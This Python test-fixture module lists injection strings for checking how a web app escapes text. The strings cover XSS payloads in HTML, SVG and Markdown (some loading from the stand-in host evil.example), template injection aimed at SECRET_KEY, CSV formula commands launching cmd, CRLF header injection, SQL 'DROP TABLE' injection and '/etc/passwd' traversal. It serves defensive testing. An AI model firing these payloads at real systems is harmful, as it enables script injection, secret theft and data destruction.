"""Texts that try to become something else than text, wherever they are shown.

Each that can run a script calls `xss()`, which the browser test listens to, and each that can load something asks
evil.example for it. Links may lead to elsewhere.example.
"""

import re

# In the words of the OWASP cheat sheets on cross-site scripting and CSV injection.
MARKUP = (
    "<script>xss()</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<script type=module>xss()</script>",
    "<img src=x onerror=xss()>",
    '<img src="https://evil.example/pixel.png">',
    "<img/src=x/onerror=xss()//",
    '<img src=x:x onerror="xss()" style="position:fixed;inset:0">',
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><script>xss()</script></svg>",
    '<svg><a xlink:href="javascript:xss()"><text y="9">go</text></a></svg>',
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"></use></svg>',
    '<math><a xlink:href="javascript:xss()">go</a></math>',
    "<iframe src=javascript:xss()></iframe>",
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<object data="javascript:xss()"></object>',
    "<embed src=//evil.example/a.swf>",
    "<body onload=xss()>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="//evil.example/a.css">',
    "<style>@import'//evil.example/a.css';p{display:none}</style>",
    '<div style="background:url(//evil.example/a.png)">over</div>',
    '<form action="https://evil.example/"><input name=password autofocus onfocus=xss()></form>',
    "<button formaction=javascript:xss()>Approve</button>",
    "<details open ontoggle=xss()><summary>more</summary></details>",
    "<video><source onerror=xss()></video>",
    "<marquee onstart=xss()>now</marquee>",
    "<dialog open>Your session has ended</dialog>",
    '<template shadowrootmode="open"><script>xss()</script></template>',
    "<x-y onpointerenter=xss() tabindex=1 autofocus onfocus=xss()>",
)
# Out of an attribute, a comment, a script, a text area, or a parser that repairs what it reads (mutation XSS).
ESCAPES = (
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    '" onmouseover="xss()" autofocus onfocus="xss()" x="',
    "' onfocus='xss()' autofocus x='",
    "` onerror=xss() `",
    "--><script>xss()</script><!--",
    "<!--<img src=\"--><img src=x onerror=xss()>\">",
    "</script><script>xss()</script>",
    "</title></textarea></style></noscript><script>xss()</script>",
    "]]><script>xss()</script>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    "<svg></p><style><a id=\"</style><img src=1 onerror=xss()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=xss()&gt;\">",
    "&lt;img src=x onerror=xss()&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-",
    "');xss();//",
    '";xss();//',
    "${xss()} {{constructor.constructor('xss()')()}} #{xss()}",
    "{{ settings.SECRET_KEY }} {% include 'admin/index.html' %} <%= 7+7 %>",
    "{% endblock %}{% csrf_token %} %(secret)s {0.__class__} $SECRET_KEY",
    "%3Cscript%3Exss()%3C/script%3E",
    "\u2028xss()\u2029//",
)  # fmt: skip
MARKDOWN = (
    "[go](javascript:xss())",
    "[go](JaVaScRiPt&colon;xss())",
    "[go](java\tscript:xss())",
    "[go](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "[go](vbscript:xss())",
    '[go](https://elsewhere.example/" onclick="xss()")',
    "[go](https://elsewhere.example 'x\" onmouseover=xss() y=\"')",
    "![x](javascript:xss())",
    '![x" onerror="xss()](x.png)',
    "<javascript:xss()>",
    "<https://elsewhere.example/\"onclick=xss()>",
    "https://elsewhere.example/?<script>xss()</script>",
    "[a]: javascript:xss()",
    "`</code><script>xss()</script>`",
    "```\"onload=xss()\n</pre><script>xss()</script>\n```",
    "| a | <img src=x onerror=xss()> |\n|---|---|\n| b | [c](javascript:xss()) |",
    "[^1]: <script>xss()</script>",
    "> [!<img src=x onerror=xss()>] careful",
    "[[<script>xss()</script>]]",
    "[[javascript:xss()|go]]",
    "[[naps|<img src=x onerror=xss()>]]",
    "[[naps\" onclick=\"xss()|\" onmouseover=\"xss()]]",
    "[00:06:31<img src=x onerror=xss()>]",
    "[<svg onload=xss()> 00:06:31]",
    "[00:06:31](javascript:xss())",
    "[e\"onclick=\"xss() 00:06:31]",
    "<time datetime=\"PT1S\" onclick=xss()>06:31</time>",
)  # fmt: skip
# What other programs run, and what changes how the text beside it reads.
OTHER = (
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example/","ok")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝１＋１",
    "approved\r\nSet-Cookie: sessionid=1\r\n\r\n<script>xss()</script>",
    "\u202egnp.exe\u202c and \u2066over\u2069",
    "pay\u200bpal \ufeff ze\u200dro",
    "Z\u0351\u036b\u0343a\u0329\u0315l\u0325\u0359g\u0348\u032co",
    "' OR 1=1; DROP TABLE articles_article;--",
    "../../../../etc/passwd",
    "&amp;&quot;&#39;&nbsp;&lt;",
    "\u0130\u0131\u017f\u212a <\u017fcript>xss()</\u017fcript>",
)  # fmt: skip
STRINGS = MARKUP + ESCAPES + MARKDOWN + OTHER

# Only in requests: no form accepts it and PostgreSQL doesn't store it.
NUL = "\0<script>xss()</script>"

BEGIN, END = "Qb{:03}", "Qe{:03}"
BEGINNING = re.compile(r"Qb(\d{3})")


def filling(start, separator=" "):
    """Return all strings in one text, each between its marks, beginning with the one at `start`.

    Places that show the beginning of a text only show every string if their texts begin with different ones.
    """
    numbers = range(len(STRINGS))
    order = [*numbers[start % len(STRINGS) :], *numbers[: start % len(STRINGS)]]
    return separator.join(
        separator.join((BEGIN.format(number), STRINGS[number], END.format(number))) for number in order
    )
